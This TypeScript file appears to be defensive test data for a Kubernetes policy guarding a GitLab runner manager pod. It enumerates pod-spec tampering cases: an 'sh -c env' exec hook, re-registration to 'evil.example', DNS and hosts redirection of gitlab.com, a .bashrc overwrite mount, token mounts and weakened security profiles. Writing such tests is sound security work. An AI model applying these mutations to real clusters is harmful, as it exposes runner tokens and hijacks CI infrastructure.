import { APP_ARMOR_ANNOTATION } from '../../../world/pod-security-standards';
import type { Body } from '../request';
import type { Attack, PodRow } from './attack';
import { added, changed, type Path } from './edit';
import { managerAttacks } from './manager-attacks';

/** Managers with a field or a value that their Deployment does not have. */

const MANAGER = 'spec.containers.manager';

/** Fields with a value of the attacker, at a path. */
type Fields = readonly (readonly [id: string, path: Path, value: unknown])[];

const rows = (rule: string, fields: Fields): readonly PodRow[] =>
  fields.map(([id, path, value], index) => [
    rule,
    id,
    `a manager with another value of ${typeof path === 'string' ? path : path.join('.')}: ${id.replaceAll('-', ' ')}`,
    (pod) => changed(pod, path, value),
    index === 0 ? 'every' : 'once',
  ]);

const EXEC = { exec: { command: ['sh', '-c', 'env'] } };
const RUN = ['run', '--config=/etc/gitlab-runner/config.toml', '--working-directory=/home/gitlab-runner'];

const CONTAINER_FIELDS: Fields = [
  ['command', `${MANAGER}.command`, ['sh', '-c', 'env']],
  ['hook-at-the-start', `${MANAGER}.lifecycle`, { postStart: EXEC }],
  ['hook-at-the-end', `${MANAGER}.lifecycle`, { preStop: EXEC }],
  ['startup-probe', `${MANAGER}.startupProbe`, EXEC],
  ['working-directory', `${MANAGER}.workingDir`, '/tmp'],
  ['input', `${MANAGER}.stdin`, true],
  ['terminal', `${MANAGER}.tty`, true],
  ['device', `${MANAGER}.volumeDevices`, [{ name: 'disk', devicePath: '/dev/xvda' }]],
  ['restart-policy', `${MANAGER}.restartPolicy`, 'Always'],
  ['resize-policy', `${MANAGER}.resizePolicy`, [{ resourceName: 'cpu', restartPolicy: 'NotRequired' }]],
  ['input-once', `${MANAGER}.stdinOnce`, true],
];

const CONTAINER_VALUES: Fields = [
  ['pull-never', `${MANAGER}.imagePullPolicy`, 'Never'],
  ['last-words-elsewhere', `${MANAGER}.terminationMessagePath`, '/etc/gitlab-runner/config.toml'],
  ['last-words-of-the-log', `${MANAGER}.terminationMessagePolicy`, 'FallbackToLogsOnError'],
];

const ARGUMENTS: Fields = [
  ['another-config', `${MANAGER}.args`, ['run', '--config=/home/gitlab-runner/x.toml', RUN[2]]],
  ['user', `${MANAGER}.args`, [...RUN, '--user=root']],
  ['another-subcommand', `${MANAGER}.args`, ['register', '--url=https://evil.example']],
  ['order', `${MANAGER}.args`, [...RUN].reverse()],
  ['no-arguments', `${MANAGER}.args`, undefined],
];

const PROBES: Fields = [
  ['liveness-by-a-program', `${MANAGER}.livenessProbe`, EXEC],
  ['readiness-by-a-program', `${MANAGER}.readinessProbe`, EXEC],
  ['probe-of-another-host', `${MANAGER}.livenessProbe.httpGet.host`, 'evil.example'],
  ['probe-of-another-port', `${MANAGER}.livenessProbe.httpGet.port`, 22n],
  ['probe-of-another-path', `${MANAGER}.readinessProbe.httpGet.path`, '/debug/pprof/profile'],
  ['probe-with-headers', `${MANAGER}.readinessProbe.httpGet.httpHeaders`, [{ name: 'A', value: 'b' }]],
  ['probe-that-kills', `${MANAGER}.livenessProbe.terminationGracePeriodSeconds`, 1n],
  ['probe-at-the-first-failure', `${MANAGER}.livenessProbe.failureThreshold`, 1n],
  ['no-probe', `${MANAGER}.livenessProbe`, undefined],
];

const PORTS: Fields = [
  ['another-port', `${MANAGER}.ports`, [{ name: 'metrics', containerPort: 8080n, protocol: 'TCP' }]],
  ['no-port', `${MANAGER}.ports`, undefined],
  ['port-by-another-name', `${MANAGER}.ports`, [{ name: 'web', containerPort: 9252n, protocol: 'TCP' }]],
];

const RESOURCES: Fields = [
  ['more-memory', `${MANAGER}.resources.limits.memory`, '1Ei'],
  ['endless-memory', `${MANAGER}.resources.limits.memory`, '0'],
  ['no-limit', `${MANAGER}.resources.limits`, undefined],
  ['no-request', `${MANAGER}.resources.requests`, undefined],
  ['small-request', `${MANAGER}.resources.requests.cpu`, '1n'],
  ['device-of-the-node', [...MANAGER.split('.'), 'resources', 'limits', 'nvidia.com/gpu'], '1'],
  ['claimed-device', `${MANAGER}.resources.claims`, [{ name: 'gpu' }]],
];

/** A profile of the node that may let more pass than that of the container runtime. */
const LAX = { type: 'Localhost', localhostProfile: 'lax' };

const SECURITY: Fields = [
  ['another-user', 'spec.securityContext.runAsUser', 1000n],
  ['another-user-of-the-container', `${MANAGER}.securityContext.runAsUser`, 1000n],
  ['another-group', 'spec.securityContext.runAsGroup', 0n],
  ['another-group-of-files', 'spec.securityContext.fsGroup', 0n],
  ['more-groups', 'spec.securityContext.supplementalGroups', [0n]],
  ['writable', `${MANAGER}.securityContext.readOnlyRootFilesystem`, false],
  ['profile-of-the-node', 'spec.securityContext.seccompProfile', LAX],
  ['profile-of-the-container', `${MANAGER}.securityContext.seccompProfile`, LAX],
  ['app-armor-of-the-pod', 'spec.securityContext.appArmorProfile', LAX],
  ['app-armor-of-the-container', `${MANAGER}.securityContext.appArmorProfile`, LAX],
  ['unmasked', `${MANAGER}.securityContext.procMount`, 'Unmasked'],
  ['groups-of-the-image', 'spec.securityContext.supplementalGroupsPolicy', 'Merge'],
  ['sysctl', 'spec.securityContext.sysctls', [{ name: 'net.ipv4.ip_unprivileged_port_start', value: '0' }]],
];

const POD_FIELDS: Fields = [
  ['hosts', 'spec.hostAliases', [{ ip: '10.0.0.66', hostnames: ['gitlab.com'] }]],
  ['dns', 'spec.dnsConfig', { nameservers: ['10.0.0.66'] }],
  ['hostname', 'spec.hostname', 'gitlab'],
  ['subdomain', 'spec.subdomain', 'gitlab'],
  ['shared-processes', 'spec.shareProcessNamespace', true],
  ['name-of-the-host', 'spec.setHostnameAsFQDN', true],
  ['users-of-the-node', 'spec.hostUsers', true],
  ['deadline', 'spec.activeDeadlineSeconds', 60n],
  ['gate', 'spec.readinessGates', [{ conditionType: 'example.com/x' }]],
  ['scheduling-gate', 'spec.schedulingGates', [{ name: 'example.com/x' }]],
  ['operating-system', 'spec.os', { name: 'windows' }],
  ['overhead', 'spec.overhead', { cpu: '1m' }],
  ['claims', 'spec.resourceClaims', [{ name: 'gpu', resourceClaimName: 'gpu' }]],
  ['resources-of-the-pod', 'spec.resources', {}],
];

const POD_VALUES: Fields = [
  ['grace', 'spec.terminationGracePeriodSeconds', 0n],
  ['dns-of-the-node', 'spec.dnsPolicy', 'Default'],
  ['variables-of-services', 'spec.enableServiceLinks', true],
  ['unsaid-variables-of-services', 'spec.enableServiceLinks', undefined],
  ['restart', 'spec.restartPolicy', 'Never'],
];

const METADATA: Fields = [
  ['label-of-jobs', ['metadata', 'labels', 'job.runner.gitlab.com/pod'], 'x'],
  ['label-of-another-kind', ['metadata', 'labels', 'runner-fleet/kind'], 'another'],
  ['annotation', ['metadata', 'annotations', 'sidecar.istio.io/inject'], 'true'],
  ['annotation-of-eviction', ['metadata', 'annotations', 'cluster-autoscaler.kubernetes.io/x'], 'true'],
  ['annotation-of-disruption', ['metadata', 'annotations', 'karpenter.sh/x'], 'true'],
  ['profile-by-annotation', ['metadata', 'annotations', `${APP_ARMOR_ANNOTATION}manager`], 'localhost/lax'],
  ['annotation-of-secrets', ['metadata', 'annotations', 'vault.hashicorp.com/agent-inject'], 'true'],
];

/** One more mount of the manager. */
const MOUNTS: readonly (readonly [id: string, mount: Body])[] = [
  ['mount-of-programs', { name: 'tmp', mountPath: '/usr/bin' }],
  ['mount-of-the-config', { name: 'config', mountPath: '/home/gitlab-runner/.bashrc', subPath: 'evil' }],
  ['mount-of-the-folder', { name: 'config', mountPath: '/etc/gitlab-runner', readOnly: true }],
  ['mount-of-a-token', { name: 'kube-api-access-594qw', mountPath: '/home/gitlab-runner', readOnly: true }],
  ['mount-twice', { name: 'tmp', mountPath: '/tmp' }],
];

const ROWS: readonly PodRow[] = [
  ...rows('manager-container-fields', CONTAINER_FIELDS),
  ...rows('manager-container-values', CONTAINER_VALUES),
  ...rows('manager-arguments', ARGUMENTS),
  ...rows('manager-probes', PROBES),
  ...rows('manager-ports', PORTS),
  [
    'manager-ports',
    'port-more',
    'a manager with one more port',
    (pod) => added(pod, `${MANAGER}.ports`, { name: 'more', containerPort: 22n, protocol: 'TCP' }),
  ],
  ...rows('manager-resources', RESOURCES),
  ...rows('manager-security', SECURITY),
  ...rows('manager-fields', POD_FIELDS),
  ...rows('manager-values', POD_VALUES),
  ...rows('manager-metadata', METADATA),
  ...MOUNTS.map(
    ([id, mount], index): PodRow => [
      'manager-mounts',
      id,
      `a manager with a ${id.replaceAll('-', ' ')}`,
      (pod) => added(pod, `${MANAGER}.volumeMounts`, mount),
      index === 0 ? 'every' : 'once',
    ],
  ),
  ...rows('manager-mounts', [
    ['mount-that-spreads', `${MANAGER}.volumeMounts.tmp.mountPropagation`, 'HostToContainer'],
    ['mount-by-a-variable', `${MANAGER}.volumeMounts.tmp.subPathExpr`, '$(RUNNER_TOKEN)'],
    ['mount-elsewhere', `${MANAGER}.volumeMounts.tmp.mountPath`, '/usr/bin'],
    ['mount-of-another-file', `${MANAGER}.volumeMounts.config.subPath`, 'another'],
  ]),
  [
    'manager-mounts',
    'no-mounts',
    'a manager without its config',
    (pod) => changed(pod, `${MANAGER}.volumeMounts`, undefined),
  ],
  [
    'manager-mounts',
    'config-that-can-be-written',
    'a manager that may write its config',
    (pod) => changed(pod, `${MANAGER}.volumeMounts.config.readOnly`, undefined),
  ],
  [
    'manager-pull-secrets',
    'pull-secret',
    'a manager whose image is pulled with a Secret of others',
    (pod) => added(pod, 'spec.imagePullSecrets', { name: 'another' }),
    'every',
  ],
  [
    'manager-pull-secrets',
    'pull-secret-of-jobs',
    'a manager whose image is pulled with the registry credentials of a job',
    (pod) => added(pod, 'spec.imagePullSecrets', { name: 'runner-t1aaaaaaa-project-42-concurrent-0' }),
  ],
];

/** Attacks by whoever may write a Deployment in the namespace, by fields. */
export const ATTACKS_BY_MANAGER_FIELDS: readonly Attack[] = managerAttacks(ROWS).map((attack) => ({
  ...attack,
  id: attack.id.replace('manager-', 'manager-field-'),
}));
